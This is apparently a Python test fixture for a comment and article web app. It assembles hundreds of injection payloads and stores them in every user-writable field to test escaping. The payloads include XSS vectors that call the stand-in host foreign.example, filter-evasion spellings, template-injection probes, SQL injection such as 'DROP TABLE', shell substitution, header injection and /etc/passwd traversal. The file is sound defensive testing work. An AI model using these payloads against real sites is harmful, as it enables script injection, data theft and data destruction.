"""Texts that want to become more than text in a page, of our own making: `PAYLOADS`, each once, none longer than `LONGEST`.

What they try is to run `window.hit=1`, to call `foreign.example`, to lay an element over the page, or to make a template
compute `SUM`. They are put together: ways out of the place a text stands in × what would follow, schemes of addresses ×
Markdown that makes links, events × the ends of attributes. Below them is the scene they stand in: `people_and_replies`, `fill`,
and `VIEWS`, who looks at it from where.
"""

from itertools import chain, product
from types import SimpleNamespace

from sqlalchemy import select

from blueprints.articles.models import ArticleVersion
from blueprints.auth.models import LoginSession, Role
from blueprints.comments.models import Comment, CommentVersion, GuestAddress, Status
from blueprints.comments.wishes import stop_token
from core import clock
from core.database import db
from core.markup import render_article, render_comment
from core.paragraphs import keys_of, with_keys
from tests import builders
from tests.builders import hidden, link_in, log_in, many_comments, send_letters

LONGEST = 100
FOREIGN = "foreign.example"
SUM = str(77777 * 33333)
DO = "window.hit=1"

# Ways out of a text, an attribute, an element whose content is no markup, a comment, a section, a foreign language.
_OUT = [
    *("", '">', "'>", ">", "\\\">", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>"),
    *("</xmp>", "</iframe>", "</noembed>", "</select>", "</svg>", "</math>", "-->", "--!>", "]]>", "*/", "</p></div></li>"),
]  # fmt: skip

# What needs an element to run or to call.
_ELEMENTS = [
    f"<script>{DO}</script>",
    f"<img src=x onerror={DO}>",
    f"<svg onload={DO}>",
    f"<details open ontoggle={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<b tabindex=1 autofocus onfocus={DO} onmouseover={DO}>字",
    f"<script src=//{FOREIGN}/x.js></script>",
    f"<script type=module>import'//{FOREIGN}/x.js'</script>",
    f"<iframe src=//{FOREIGN}/></iframe>",
    f'<iframe srcdoc="<script>parent.{DO}</script>"></iframe>',
    f"<iframe src=javascript:parent.{DO}></iframe>",
    f"<object data=//{FOREIGN}/x></object>",
    f"<embed src=//{FOREIGN}/x>",
    f"<img src=//{FOREIGN}/x.png>",
    f"<img srcset='//{FOREIGN}/x.png 2x'>",
    f"<picture><source srcset=//{FOREIGN}/x.png><img></picture>",
    f"<video poster=//{FOREIGN}/x.png src=//{FOREIGN}/x.webm autoplay onerror={DO}>",
    f"<audio src=//{FOREIGN}/x.ogg autoplay onerror={DO}></audio>",
    f"<video><source onerror={DO}></video>",
    f"<input type=image src=//{FOREIGN}/x.png onerror={DO}>",
    f"<body onload={DO} background=//{FOREIGN}/x.png>",
    f"<table background=//{FOREIGN}/x.png><td>",
    f"<link rel=stylesheet href=//{FOREIGN}/x.css onerror={DO}>",
    f"<link rel=prefetch href=//{FOREIGN}/>",
    f"<link rel=icon href=//{FOREIGN}/x.ico>",
    f"<link rel=modulepreload href=//{FOREIGN}/x.js>",
    f"<style>@import'//{FOREIGN}/x.css';*{{background:url(//{FOREIGN}/x.png)}}</style>",
    f"<p style=background:url(//{FOREIGN}/x.png)>字",
    "<p style='position:fixed;inset:0;z-index:9'>盖住",
    f"<style onload={DO}></style>",
    f"<base href=//{FOREIGN}/>",
    "<meta charset=utf-7><meta http-equiv=Set-Cookie content=a=b>",
    f"<form action=//{FOREIGN}/><input name=body><button>发</button></form>",
    f"<form action=javascript:{DO}><button>发</button></form>",
    f"<button formaction=javascript:{DO}>发</button>",
    f"<input type=submit formaction=//{FOREIGN}/ value=发>",
    f"<isindex action=javascript:{DO} type=submit>",
    f"<a href=javascript:{DO}>点</a>",
    f"<a href=data:text/html,<script>opener.{DO}</script> target=_blank>点</a>",
    f"<a href=/ ping=//{FOREIGN}/>点</a>",
    f"<area href=javascript:{DO}><map name=x>",
    f"<svg><a xlink:href=javascript:{DO}><text y=9>点</text></a></svg>",
    f"<svg><script href=data:,{DO} /></svg>",
    f"<svg><script xlink:href=//{FOREIGN}/x.js /></svg>",
    f"<svg><use href=//{FOREIGN}/x.svg#a></use><image href=//{FOREIGN}/x.png></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><a><set attributeName=href to=javascript:{DO} /><text y=9>点</text></a></svg>",
    f"<svg><style>@import'//{FOREIGN}/x.css'</style></svg>",
    f"<svg><foreignObject><img src=x onerror={DO}></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{DO}>点</maction></math>",
    f"<math href=javascript:{DO}><mtext>点</mtext></math>",
    f"<marquee onstart={DO}>字</marquee>",
    f"<div popover id=p onbeforetoggle={DO}>字</div><button popovertarget=p>点</button>",
    f"<dialog open onclose={DO}><form method=dialog><button>点</button></form></dialog>",
    f"<p contenteditable autofocus onfocus={DO}>字",
    f"<template shadowrootmode=open><script>{DO}</script></template>",
    f"<x is=flash-note onclick={DO}>点</x>",
    f"<flash-note onclick={DO}>点</flash-note><error-summary tabindex=1>",
    f"<p accesskey=x onclick={DO} style=animation:x onanimationstart={DO}>字",
    f"<p hidden=until-found onbeforematch={DO}>字",
    f"<video controls oncanplay={DO} ontimeupdate={DO}>",
    f"<img src=x onerror=fetch('//{FOREIGN}/')>",
    f"<img src=x onerror=navigator.sendBeacon('//{FOREIGN}/')>",
    "<img src=x onerror=eval(name)><img src=x onerror=alert`1`>",
    "<input name=csrf_token id=submit form=x><a id=problems name=body>",
    "<textarea name=body><plaintext>",
    "<!doctype html><html onclick=window.hit=1><head><body class=x>",
    "<?xml-stylesheet href='//foreign.example/x.css'?>",
    "<!--fold 1 1--><!--#include file='/etc/passwd'-->",
]  # fmt: skip

# The ends of attributes, and events to follow them without any new element.
_ENDS = ['"', "'", "", '\\"', "&quot;", "&#34;", "&#39;", "\u201d", "\uff02", '"\n', "'/", '"\f', "`"]
_EVENTS = [
    *("onmouseover", "onfocus", "onclick", "ONPOINTERENTER", "onload", "onerror", "onanimationend", "oncopy", "onscrollend"),
    *("on\u00a0click", "onclick\u3000", "\u0131nclick", "style", "autofocus onfocus", "href", "formaction", "srcdoc"),
]  # fmt: skip

# Addresses that are programs, written so that a filter does not see it and a browser might.
_PROGRAMS = [
    f"javascript:{DO}", f"JaVaScRiPt:{DO}", f" javascript:{DO}", f"\tjavascript:{DO}", f"\x01javascript:{DO}",
    f"\u00a0javascript:{DO}", f"\u3000javascript:{DO}", f"\ufeffjavascript:{DO}", f"\u200bjavascript:{DO}",
    f"java\tscript:{DO}", f"java\nscript:{DO}", f"java&#9;script:{DO}", f"java&Tab;script:{DO}",
    f"java&NewLine;script:{DO}", f"javascript&colon;{DO}", f"javascript&#58;{DO}", f"&#106;avascript:{DO}",
    f"&#x6a;avascript:{DO}", f"&#0000106avascript:{DO}", f"javascript:{DO}//https://example.org", f"java\\script:{DO}",
    f"javascript://example.org/%0a{DO}", f"javascript:/*https://example.org*/{DO}", f"javascript%3a{DO}",
    f"\u017fcript:{DO}", f"vbscript:{DO}", f"data:text/html,<script>{DO}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    f"view-source:javascript:{DO}", f"feed:javascript:{DO}", f"blob:{DO}", "file:///etc/passwd", f"//{FOREIGN}/",
    f"\\\\{FOREIGN}\\", f"https:javascript:{DO}", f"https://{FOREIGN}@javascript:{DO}", f"http://[::1]/\"onclick={DO}",
    f"https://example.org/\"onmouseover=\"{DO}", f"https://example.org/'onmouseover='{DO}", "about:blank", "tel:1",
]  # fmt: skip
_LINKS = ["[点]({})", "<{}>"]

# Markdown, whose own signs might be turned against the page.
_MARKDOWN = [
    f"```\"onmouseover={DO}\n<img src=x onerror={DO}>\n```", f"```html><script>{DO}</script>\n字\n```",
    f"~~~</code></pre><script>{DO}</script>\n</code></pre><script>{DO}</script>\n~~~", f"`</code><img src=x onerror={DO}>`",
    f"[点]: javascript:{DO}\n\n[点] [点][] [字][点]", f"[点]: <javascript:{DO}> \"onclick={DO}\"\n\n[点]",
    f"[点](https://example.org \"\\\"onmouseover={DO} x=\\\"\")", f"[点](https://example.org '\" onclick={DO}')",
    f"[<img src=x onerror={DO}>](https://example.org)", f"[![图](javascript:{DO})](javascript:{DO})",
    f"![<img src=x onerror={DO}>](//{FOREIGN}/x.png \"x\")", f"![图](https://{FOREIGN}/x.png)",
    f"**<b onclick={DO}>**_<i style=x>_", f"***<svg onload={DO}>***", f"> <script>{DO}</script>\n> > <img src=x onerror={DO}>",
    f"- <script>{DO}</script>\n1. <img src=x onerror={DO}>", f"1. <ol start='javascript:{DO}'>", f"\\<script>{DO}\\</script>",
    f"<https://example.org/\"><script>{DO}</script>>", f"<a@example.org?\"onclick={DO}>", f"<mailto:a@example.org\"onclick={DO}>",
    f"https://example.org/<img src=x onerror={DO}>", f"https://example.org/\"onclick=\"{DO}", f"https://example.org/'-{DO}-'",
    f"# <script>{DO}</script> {{onclick={DO}}}", f"|<script>{DO}</script>|\n|-|\n|<img src=x onerror={DO}>|",
    f"<script>\n{DO}\n</script>\n\n<div\nonclick={DO}\n>", f"[^1]: <img src=x onerror={DO}>\n\n[^1]", f"<!-- -->\n<script>{DO}</script>",
    f"1楼 @2楼 \"onclick={DO} 3楼<img src=x onerror={DO}>",
]  # fmt: skip

# What one parser reads as text and the next as elements: nested languages, broken nesting, raw text in the wrong place.
_MUTATIONS = [
    f"<svg><style><img src=x onerror={DO}></style></svg>", f"<math><style><img src=x onerror={DO}></style></math>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={DO}>\">", f"<math><mtext><table><mglyph><style><img src=x onerror={DO}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={DO}>", f"<svg><title><img src=x onerror={DO}></title>",
    f"<noscript><p title=\"</noscript><img src=x onerror={DO}>\">", f"<template><p title=\"</template><img src=x onerror={DO}>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={DO}>\">", f"<listing>\n<img src=x onerror={DO}>", f"<plaintext><img src=x onerror={DO}>",
    f"<select><style><img src=x onerror={DO}></style></select>", f"<select><option><img src=x onerror={DO}>",
    f"<table><caption><img src=x onerror={DO}>", f"<table><svg onload={DO}></table>", f"<frameset onload={DO}><frame src=//{FOREIGN}/>",
    f"<svg><![CDATA[<img src=x onerror={DO}>]]></svg>", f"<![CDATA[><img src=x onerror={DO}>]]>", f"<!--><img src=x onerror={DO}>-->",
    f"<!---><img src=x onerror={DO}>-->", f"<!-- --!><img src=x onerror={DO}>-->", f"<!><img src=x onerror={DO}>",
    f"</><img src=x onerror={DO}>", f"<?><img src=x onerror={DO}>", f"<%><img src=x onerror={DO}>", f"<a/><img/src=x/onerror={DO}>",
    f"<annotation-xml encoding=text/html><img src=x onerror={DO}>", f"<desc><svg><foreignobject><svg onload={DO}>",
    f"<title><textarea></title><img src=x onerror={DO}>", f"<a><a><p><table><a href=javascript:{DO}>点",
]  # fmt: skip

# Tags half open, of odd spelling, or written so that taking something out of them leaves a tag.
_SPELLINGS = [
    f"<img src=x onerror={DO}", f"<img src=x onerror={DO} //", f"<<img src=x onerror={DO}>>", f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<SCRIPT>{DO}</SCRIPT>", f"<ScRiPt\n>{DO}</sCrIpT\t>", f"<script/x>{DO}</script/x>", f"<script x='>'>{DO}</script>",
    f"<script\x00>{DO}</script>", f"<\x00script>{DO}</script>", f"<scr\u200bipt>{DO}</script>", f"<\ufdd0img src=x onerror={DO}>",
    f"<img\x0bsrc=x\x0bonerror={DO}>", f"<img\u3000src=x\u3000onerror={DO}>", f"<img\u00a0src=x onerror={DO}>", f"< img src=x onerror={DO}>",
    f"\uff1cscript\uff1e{DO}\uff1c/script\uff1e", f"\u2039script\u203a{DO}", f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#60;/script&#62;", f"&amp;lt;script&amp;gt;{DO}", f"%3Cscript%3E{DO}%3C/script%3E", f"\\u003cscript\\u003e{DO}",
    f"\\x3cscript\\x3e{DO}", f"+ADw-script+AD4-{DO}+ADw-/script+AD4-", f"<\u202escript>{DO}</script>", f"<IMG SRC=X ONERROR={DO}>",
    f"<img src=x onerror\t=\t{DO}>", f"<img src=x onerror\n=\n'{DO}'>", f"<img src=x onerror=\"{DO}", f"<img src='x onerror={DO}>'",
    f"<a href=\"javas\x00cript:{DO}\">点</a>", f"<a href='&#1;javascript:{DO}'>点</a>", f"<a href=\" &#14; javascript:{DO}\">点</a>",
    f"\"><img src=x onerror={DO}>{{{{", f"<script>{DO}//", "<iframe", "<a href=\"", "</", "<!--", "<script", "<textarea", "<svg><", "&#", "&lt",
]  # fmt: skip

# The languages of templates, databases, shells, headers, letters and scripts.
_LANGUAGES = [
    "{{ 77777 * 33333 }}", "{% print(77777 * 33333) %}", "{{ config }}{{ self }}{{ request }}", "{# #}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ url_for.__globals__ }}{{ cycler.__init__ }}", "{% raw %}{{ x }}",
    "${77777*33333}", "#{77777*33333}", "<%= 77777*33333 %>", "*{77777*33333}", "@(77777*33333)", "{{{77777*33333}}}", "[[${77777*33333}]]",
    "%(body)s %s %d %n {0.__class__} {body!r}", "' OR '1'='1", "'; DROP TABLE comment; --", "\x00' OR 1=1", "$(id) `id` ;id|id",
    f"x\r\nSet-Cookie: a=b\r\nLocation: //{FOREIGN}/", f"x\r\n\r\n<script>{DO}</script>", "x\nBcc: all@foreign.example", "x\n.\nQUIT",
    f"'-{DO}-'", f"\";{DO}//", f"\\\";{DO}//", f"${{{DO}}}", f"`;{DO}//", f"</script><script>{DO}//", f"\u2028{DO}\u2029",
    "\x1b]0;x\x07\x1b[2J", "\x9b31m", "../../../etc/passwd", f"//{FOREIGN}", f"/\\{FOREIGN}", f"https:/{FOREIGN}", f"@{FOREIGN}",
    "=HYPERLINK(\"//foreign.example\")", "{\"__proto__\":{\"x\":1}}", "\u202e\u2066<b>\u2069", "@import'//foreign.example/x.css';", "}*{background:red}",
]  # fmt: skip

# What leaves for another page by itself: no policy of content holds that, only escaping does.
FLIGHTS = [out + f"<meta http-equiv=refresh content='0;url=//{FOREIGN}/'>" for out in _OUT[:4]]

_STRONG = _ELEMENTS[:2]  # what follows every way out

PAYLOADS = list(
    dict.fromkeys(
        chain(
            (out + element for out, element in product(_OUT, _STRONG)),
            (_OUT[place % 3] + element for place, element in enumerate(_ELEMENTS)),
            (f"{end} {_EVENTS[place % len(_EVENTS)]}={DO} x={end}" for place, end in enumerate(_ENDS * 2)),
            (f"{end} {event}={DO} x={end}" for end, event in product(_ENDS[:2], _EVENTS)),
            (link.format(program) for link, program in product(_LINKS, _PROGRAMS)),
            _MARKDOWN,
            _MUTATIONS,
            _SPELLINGS,
            _LANGUAGES,
            FLIGHTS,
        )
    )
)

ROWS, ROW_MAX = 50, 200  # a nickname's column holds no more


def _packed():
    """Yield all payloads, as many together as a row holds: one that got out would be seen among the others."""
    row = ""
    for payload in PAYLOADS:
        if len(row) + len(payload) + 2 > ROW_MAX:
            yield row
            row = ""
        row = f"{row}\n\n{payload}" if row else payload
    yield row


_PACKED = list(_packed())
BATCHES = [_PACKED[start : start + ROWS] for start in range(0, len(_PACKED), ROWS)]

# Who asks for what, once people's words are in every row: a view joins with one line.
VIEWS = [
    ("guest", "/"),
    ("guest", "/articles/hello"),
    ("guest", "/articles/hello?sort=newest"),
    ("guest", "/articles/hello?sort=author"),
    ("guest", "/articles/hello?from=42&to={answer}&cite=1"),
    ("guest", "/comments/{changed}/changes"),
    ("guest", "/comments/{changed}/report"),
    ("guest", "/articles/hello?about={key}&quote={key}"),
    ("guest", "/articles/hello/changes"),
    ("guest", "/letters/stop/{stop}"),
    ("guest", "/nowhere"),
    ("reader", "/articles/hello?to={first}"),
    ("reader", "/account"),
    ("reader", "/account/replies"),
    ("reader", "/account/earlier-replies"),
    ("reader", "/comments/{first}/edit"),
    ("reader", "/comments/{held}/edit"),
    ("reader", "/comments/{first}/withdraw"),
    ("reader", "/comments/{gone}/restore"),
    ("reader", "/account/sessions"),
    ("reader", "/account/download.html"),
    ("owner", "/mine"),
    ("owner", "/mine/erase"),
    ("owner", "{link}"),
    ("moderator", "/articles/hello"),
    ("administrator", "/articles/draft"),
    ("administrator", "/admin/people"),
    ("administrator", "/admin/people/{reader}"),
]


def people_and_replies(app):
    """Return an article with replies in every state, and people in every role, each logged in; the rows hold what `fill` puts in."""
    article, draft, mei = (
        builders.article(),
        builders.article("draft", is_draft=True),
        builders.user("梅子", "mei@example.com"),
    )
    many_comments(article, ROWS)
    replies = db.session.scalars(select(Comment).order_by(Comment.floor)).all()
    _spread(replies, mei, article)
    people = {"reader": mei, "moderator": builders.user("林舟", "lin@example.com", Role.MODERATOR)}
    people["administrator"] = builders.user("沈未", "shen@example.com", Role.ADMINISTRATOR)
    browsers = {"guest": app.test_client(), "owner": app.test_client()} | {role: app.test_client() for role in people}
    for role, person in people.items():
        log_in(browsers[role], person.username)
    ids = {"first": replies[0].id, "answer": replies[44].id, "reader": mei.id, "held": replies[47].id}
    ids |= {"changed": replies[9].id, "gone": replies[49].id}
    words = {"link": _opened(browsers["owner"]), "stop": stop_token(replies[0]), "key": replies[10].quote}
    return SimpleNamespace(articles=[article, draft], replies=replies, mei=mei, browsers=browsers, ids=ids | words)


def _spread(replies, mei, article):
    """Put the replies into threads, some under accounts or addresses, one changed, the last ones not public."""
    for reply in replies[40:]:
        reply.parent_id, reply.root_floor = replies[39].id, 40
    for reply in [*replies[:3], *replies[44:]]:
        reply.user_id = mei.id
    for reply in replies[3:6]:
        reply.email_key = mei.email_key
    for reply in replies[6:9]:
        reply.email_key = "nanshan@example.com"
    for reply in replies[::7]:
        reply.is_by_author = True
    for reply in replies[46:48]:
        reply.status, reply.floor, reply.held_reason = Status.PENDING, None, "links"
    replies[48].status, replies[49].status, replies[49].withdrawn_at = Status.REJECTED, Status.DELETED, clock.now()
    replies[9].edited_at = article.updated_at = clock.now()
    replies[10].quote = keys_of(article.body_html)[0]
    article.quoted = {replies[10].quote: 1}
    db.session.add(ArticleVersion(article_id=article.id, title="", summary="", body=""))
    db.session.add(CommentVersion(comment=replies[9], number=1, body="", body_html="", status=Status.PUBLISHED))
    db.session.commit()


def _opened(browser):
    """Open the link to everything written under an address, and return it."""
    form = {"email": "nanshan@example.com", "csrf_token": hidden(browser.get("/mine"), "csrf_token")}
    browser.post("/mine", data=form)
    link = link_in(send_letters()[-1])
    browser.post(link, data={"csrf_token": hidden(browser.get(link), "csrf_token")}, follow_redirects=True)
    return link


def fill(scene, texts):
    """Put one text into each row, into every column that holds what people write, past every form."""
    texts = [text.replace("\x00", "\ufffd") for text in texts]
    for number, reply in enumerate(scene.replies):
        text = texts[number % len(texts)]
        reply.nickname, reply.email, reply.body, reply.body_html = text, text, text, render_comment(text)
        reply.removed_reason = text if reply.status is Status.REJECTED else None
    together = "\n\n".join(texts)
    former = db.session.scalars(select(ArticleVersion)).one()
    version, address = db.session.scalars(select(CommentVersion)).one(), db.session.scalars(select(GuestAddress)).one()
    former.title = former.summary = former.body = texts[-1] + together
    version.body, address.email = texts[-1] + texts[0], texts[0]
    for article in scene.articles:
        article.title = article.summary = together
        article.author, article.body = texts[0][:160], "第一段。\n\n" + together
        article.body_html = with_keys(render_article(article.body))
    scene.mei.username, scene.mei.pause_reason = texts[0][:160], texts[-1]
    for session in db.session.scalars(select(LoginSession)):
        session.device = texts[-1][:80]
    db.session.commit()
